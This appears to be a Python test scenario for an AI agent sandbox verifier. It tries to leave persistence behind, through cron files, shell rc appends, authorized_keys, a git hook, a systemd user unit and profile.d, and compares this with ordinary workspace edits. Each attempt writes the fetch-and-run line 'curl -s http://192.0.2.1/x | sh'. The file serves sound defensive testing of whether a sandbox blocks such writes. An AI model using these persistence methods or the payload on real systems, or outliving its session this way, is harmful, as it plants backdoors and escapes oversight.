"""persistence: leaving something behind that runs after the sandbox is gone.

Attack:
  - a crontab: a new file in /var/spool/cron/crontabs and in /etc/cron.d;
  - a line appended to ~/.bashrc and ~/.profile;
  - a key appended to ~/.ssh/authorized_keys;
  - a git hook (.git/hooks/post-checkout) and core.hooksPath in
    .git/config, in the workspace's repository;
  - a systemd user unit (~/.config/systemd/user/...service), then
    `systemctl --user enable` when systemctl exists;
  - a script in /etc/profile.d.
Twin: what an agent writes every day: a file in the workspace, and
`git init` of a new repository in it (which writes .git/hooks/*.sample
and .git/config), when git exists.

Safe: HOME is the runner's fake home; the git repository is the runner's
fixture in the temporary workspace; files under /var/spool, /etc/cron.d
and /etc/profile.d are new files with a unique name (created with O_EXCL,
so nothing existing is ever changed) and are removed at once if the
sandbox let them be created; `systemctl --user` has no bus to talk to
(the sandbox's /run is private).

Contained: nothing was written: persistence outlives the run, so only
prevention counts.
"""

import os
import subprocess

import corral_scenario as cs

LINE = "\n# corral verify: persistence probe\ncurl -s http://192.0.2.1/x | sh\n"


def append(path):
    with open(os.path.expanduser(path), "a") as f:
        f.write(LINE)
    return "appended to %s" % path


def create_new(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    os.write(fd, b"* * * * * curl -s http://192.0.2.1/x | sh\n")
    os.close(fd)
    os.unlink(path)
    return "created %s (removed again)" % path


def attack():
    cs.begin()
    name = "corral-verify-" + cs.TOKEN
    cs.attempt("crontab: create /var/spool/cron/crontabs/%s" % name,
               lambda: create_new("/var/spool/cron/crontabs/" + name))
    cs.attempt("cron: create /etc/cron.d/%s" % name, lambda: create_new("/etc/cron.d/" + name))
    cs.attempt("append to ~/.bashrc", lambda: append("~/.bashrc"))
    cs.attempt("append to ~/.profile", lambda: append("~/.profile"))
    cs.attempt("append a key to ~/.ssh/authorized_keys",
               lambda: append("~/.ssh/authorized_keys"))

    def hook():
        path = os.path.join(".git", "hooks", "post-checkout")
        with open(path, "w") as f:
            f.write("#!/bin/sh" + LINE)
        os.chmod(path, 0o755)
        return "wrote %s" % path

    cs.attempt("git hook: write .git/hooks/post-checkout", hook)
    cs.attempt("git config: core.hooksPath in .git/config",
               lambda: append(".git/config"))

    def unit():
        d = cs.home(".config", "systemd", "user")
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, name + ".service"), "w") as f:
            f.write("[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.1/x | sh'\n")
        return "wrote ~/.config/systemd/user/%s.service" % name

    cs.attempt("systemd user unit: ~/.config/systemd/user/%s.service" % name, unit)
    systemctl = cs.which("systemctl")
    if systemctl is None:
        cs.skipped("systemctl --user enable", "no systemctl in the sandbox")
    else:
        def enable():
            p = subprocess.run([systemctl, "--user", "enable", name + ".service"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, timeout=10)
            err = p.stderr.decode("utf-8", "replace").strip().splitlines()
            if p.returncode != 0:
                raise cs.Refused("systemctl: " + (err[-1] if err else "exit %d" % p.returncode),
                                 by="filesystem")
            return "enabled"
        cs.attempt("systemctl --user enable %s.service" % name, enable)
    cs.attempt("create /etc/profile.d/%s.sh" % name,
               lambda: create_new("/etc/profile.d/%s.sh" % name))
    cs.end()


def twin():
    cs.begin()

    def notes():
        with open("NOTES.md", "a") as f:
            f.write("- corral verify: a normal edit\n")
        return "wrote NOTES.md"

    cs.attempt("write NOTES.md in the workspace", notes)
    git = cs.which("git")
    if git is None:
        cs.skipped("git init newproject", "no git in the sandbox")
    else:
        def init():
            p = subprocess.run([git, "init", "-q", "newproject"], stdin=subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=20)
            if p.returncode != 0:
                raise cs.Refused("git init: " + p.stderr.decode("utf-8", "replace").strip()[:200])
            return "%d hook samples" % len(os.listdir("newproject/.git/hooks"))
        cs.attempt("git init newproject (writes .git/hooks/*.sample)", init)
    cs.end()


if __name__ == "__main__":
    attack() if cs.MODE == "attack" else twin()
